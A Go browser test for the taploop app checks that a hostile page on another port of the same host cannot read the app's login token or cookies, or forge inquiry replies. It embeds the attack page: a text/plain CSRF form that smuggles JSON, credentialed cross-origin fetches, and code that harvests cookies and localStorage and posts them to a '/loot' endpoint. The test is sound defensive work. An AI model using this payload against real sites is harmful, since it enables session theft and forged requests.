package web_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"

	"github.com/taploop/taploop/internal/chrometest"
	"github.com/taploop/taploop/internal/inquiry"
)

// neighbour is another server on the same host, whose page tries to get at the inbox of the browser
// that visits it.
type neighbour struct {
	*httptest.Server
	mu   sync.Mutex
	sent []string // the requests that it was sent, and what its page could read
}

func (n *neighbour) requests() string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return strings.Join(n.sent, "\n")
}

// attack is what the neighbour's page tries, against the server at %s and its question %s.
const attack = `<!doctype html><title>neighbour</title><iframe src="%[1]s/ui"></iframe>
<form id="f" method="post" enctype="text/plain" target="t" action="%[1]s/v1/inquiries/%[2]s/reply">
<input name='{"response":"forged","x":"' value='"}'></form><iframe name="t"></iframe><script>
(async () => {
	const reply = "%[1]s/v1/inquiries/%[2]s/reply", got = [document.cookie], body = '{"response":"forged"}';
	const note = async (f) => { try { got.push(String(await f())); } catch (e) { got.push(e.name); } };
	for (let i = 0; i < localStorage.length; i++) got.push(localStorage.getItem(localStorage.key(i)));
	for (const mode of ["cors", "no-cors"]) {
		await note(() => fetch("%[1]s/v1/inquiries", {mode, credentials: "include"}).then((r) => r.text()));
		await note(() => fetch(reply, {method: "POST", mode, body, credentials: "include"}).then((r) => r.text()));
	}
	await note(() => fetch(reply, {method: "POST", body, headers: {"X-Taploop-Login": "guess"}}).then((r) => r.text()));
	const w = open("%[1]s/ui");
	await new Promise((r) => setTimeout(r, 300));
	for (const f of [() => w.localStorage.length, () => w.secret, () => frames[0].localStorage.length]) await note(f);
	document.getElementById("f").submit();
	await fetch("/loot", {method: "POST", body: got.join(" | ")});
	document.title = "tried";
})();
</script>`

func newNeighbour(t *testing.T, target, id string) *neighbour {
	n := new(neighbour)
	n.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, err := httputil.DumpRequest(r, true)
		if err != nil {
			t.Error(err)
		}
		n.mu.Lock()
		n.sent = append(n.sent, string(b))
		n.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, attack, target, id)
	}))
	t.Cleanup(n.Close)
	return n
}

func TestAnotherServerOfTheHostGetsNothingToAnswerWith(t *testing.T) {
	t.Parallel()
	g := newRig(t, nil)
	q := g.waiting("ann", inquiry.Question{})
	p := g.login(chrometest.Chromium(t), "kitchen")
	p.until(card(q, ".shot img") + ".naturalWidth > 0")
	require.Equal(t, "", p.text("document.cookie"))
	secret := p.text(`localStorage.getItem("taploop.login")`)
	require.Len(t, secret, 43, "it is kept where the port counts")

	other := newNeighbour(t, g.http.URL, q.ID)
	ctx, cancel := chromedp.NewContext(p.ctx) // another tab of the same browser profile
	t.Cleanup(cancel)
	visitor := tab{t, ctx}
	visitor.do(chromedp.Navigate(other.URL))
	visitor.until(`document.title === "tried"`)
	sent := other.requests()
	require.NotContains(t, sent, "Cookie:")
	require.NotContains(t, sent, secret)
	require.Contains(t, sent, "SecurityError", "the attack was tried")
	g.untouched(q)

	for _, line := range strings.Split(sent, "\n") { // with whatever the neighbour was sent
		name, value, is := strings.Cut(strings.TrimSpace(line), ": ")
		if !is || strings.ContainsAny(name, " {|<") || name == "Host" || name == "Content-Length" {
			continue
		}
		a := g.send("GET", "/v1/inquiries", "", "", func(r *http.Request) {
			r.Header.Set(name, value)
		})
		require.GreaterOrEqual(t, a.status, 400, line)
	}
	p.do(chromedp.Reload())
	p.until(card(q, "textarea") + " !== null")
	require.Equal(t, "live", p.text(`document.getElementById("link").textContent`),
		"the page itself stays logged in")
}

func TestTheLoginIsOfAllTabsOfTheOriginUntilItIsGivenUp(t *testing.T) {
	t.Parallel()
	g := newRig(t, nil)
	q := g.waiting("ann", inquiry.Question{})
	p := g.login(chrometest.Chromium(t), "kitchen")
	ctx, cancel := chromedp.NewContext(p.ctx)
	t.Cleanup(cancel)
	second := tab{t, ctx}
	second.do(chromedp.Navigate(g.http.URL + "/ui"))
	second.until(card(q, "textarea") + " !== null")
	p.do(js(`document.getElementById("logout").click()`))
	p.until(`!document.getElementById("login").hidden && ` +
		`localStorage.getItem("taploop.login") === null`)
	second.until(`!document.getElementById("login").hidden && document.querySelector("article") ` +
		`=== null`)
}
